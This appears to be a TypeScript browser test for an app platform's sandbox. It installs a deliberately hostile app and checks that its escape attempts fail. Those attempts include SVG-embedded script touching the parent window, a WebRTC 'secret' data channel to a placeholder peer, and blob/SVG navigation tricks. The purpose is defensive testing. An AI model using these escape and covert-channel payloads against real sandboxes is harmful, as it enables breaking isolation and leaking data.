import assert from 'node:assert/strict'
import { createSocket } from 'node:dgram'
import { readFile } from 'node:fs/promises'
import { after, before, test } from 'node:test'
import { fileURLToPath } from 'node:url'
import { packApp } from './packages.ts'
import { type House, openHouse, passphrase, skip, unlock, until } from './visit.ts'

let house: House
let hostile: string
/** Where a peer connection would be heard. */
const peer = createSocket('udp4')
let heard = 0

const manifest = {
  manifest: 1,
  id: 'org.example.hostile',
  name: 'Friendly Game',
  version: '1.0.0',
  category: 'games',
  description: 'Tries to get out of its frame.',
  permissions: [{ id: 'drive.read', why: 'So that it can be refused.' }],
  ui: { kind: 'frame', entry: 'ui/index.html' },
  icon: 'icon.svg',
}
/** What a page that the app made, or led its frame to, would call by. */
const calling = `
const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:PEER' }] })
peer.createDataChannel('secret')
peer.createOffer().then((offer) => peer.setLocalDescription(offer))
`
const page = `<!doctype html><html lang="en"><head><title>Game</title><script type="module" src="hostile.js"></script></head>
<body><pre id="results"></pre><button id="flood">Flood</button></body></html>`

before(async () => {
  if (skip !== false) return
  house = await openHouse()
  await house.node.operations.account.init({ name: 'Ada Lovelace', passphrase })
  peer.on('message', () => (heard += 1))
  await new Promise<void>((resolve) => peer.bind(0, '127.0.0.1', resolve))
  const written = await readFile(fileURLToPath(new URL('fixtures/hostile.js', import.meta.url)), 'utf8')
  const script = written.replaceAll('PEER', `127.0.0.1:${peer.address().port}`)
  const icon = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 1 1"><script>parent.x = 1</script></svg>'
  const files = {
    'ui/index.html': page,
    'ui/hostile.js': script,
    'ui/peer.js': calling.replace('PEER', `127.0.0.1:${peer.address().port}`),
    'ui/peer.svg': '<svg xmlns="http://www.w3.org/2000/svg"><script href="peer.js"/></svg>',
    'icon.svg': icon,
  }
  hostile = await packApp(house.node.home.root, undefined, { manifest, files })
})
after(async () => {
  peer.close()
  await house?.close()
})

test(
  'WX-APP-4, WX-APP-6, WX-APP-8: a hostile app in a frame gets nothing that it was not granted, and a flood ends it',
  {
    skip,
  },
  () =>
    house.visit({ viewport: { width: 1440, height: 900 } }, async ({ page: tab, complaints }) => {
      await unlock(tab)
      await tab.getByRole('list', { name: 'Apps', exact: true }).getByRole('button', { name: 'Apps' }).click()
      await tab.locator('input[type=file][accept=".wxa"]').setInputFiles(hostile)
      await tab.getByRole('button', { name: 'Install, allow nothing' }).click()
      await tab.getByRole('button', { name: 'Open' }).click()
      const results = tab.frameLocator('iframe.app-frame').locator('#results')
      await results.filter({ hasText: '{' }).waitFor({ timeout: 90_000 })
      const { 'keeps its own things': own, ...escapes } = JSON.parse(
        (await results.textContent()) ?? '',
      ) as Record<string, boolean>
      assert.equal(own, true)
      assert.ok(Object.keys(escapes).length >= 40)
      assert.deepEqual(
        Object.entries(escapes).filter(([, isOut]) => isOut),
        [],
      )
      assert.equal(new URL(tab.url()).pathname, '/')
      assert.equal(await tab.evaluate(() => 'x' in globalThis), false)

      assert.equal(heard, 0, 'a peer connection went out')
      for (const way of [
        "location.href = new URL('peer.svg', document.scripts[0].src).href",
        `location.href = URL.createObjectURL(
          new Blob(['<script src="' + new URL('peer.js', document.scripts[0].src) + '"></' + 'script>'], { type: 'text/html' }))`,
      ]) {
        const before = tab.frames().length
        const frame = tab.frames().find((one) => one.url().endsWith('/ui/index.html'))
        assert.ok(frame !== undefined && before > 1)
        await frame.evaluate(way).catch(() => undefined)
        await tab.waitForTimeout(1500)
        assert.equal(heard, 0, way)
        const again = tab.getByRole('region', { name: 'Friendly Game', exact: true })
        await again.focus()
        await tab.keyboard.press('Alt+Shift+W')
        await tab.locator('iframe.app-frame').waitFor({ state: 'detached' })
        await tab.getByRole('button', { name: 'Open' }).click()
        await results.filter({ hasText: '{' }).waitFor({ timeout: 90_000 })
      }

      // The frame goes while it is pressed.
      await tab
        .frameLocator('iframe.app-frame')
        .getByRole('button', { name: 'Flood' })
        .click({ timeout: 3000 })
        .catch(() => undefined)
      await tab.getByRole('heading', { name: 'Friendly Game was stopped' }).waitFor()
      assert.equal(await tab.locator('iframe').count(), 0)
      const cutOff = async () =>
        (await house.node.operations.audit.tail({ action: 'app.refused', limit: 1000 })).filter(
          ({ code, details }) => code === 'frame.cut-off' && details.app === manifest.id,
        )
      await until(async () => (await cutOff()).length > 0, 'the flood is written down')
      assert.equal((await cutOff()).length, 1)
      // The desktop goes on.
      await tab.getByRole('button', { name: 'Start it again' }).click()
      await tab.locator('iframe').waitFor()
      // What the browser said of the app's attempts is the app's own.
      complaints.length = 0
    }),
)
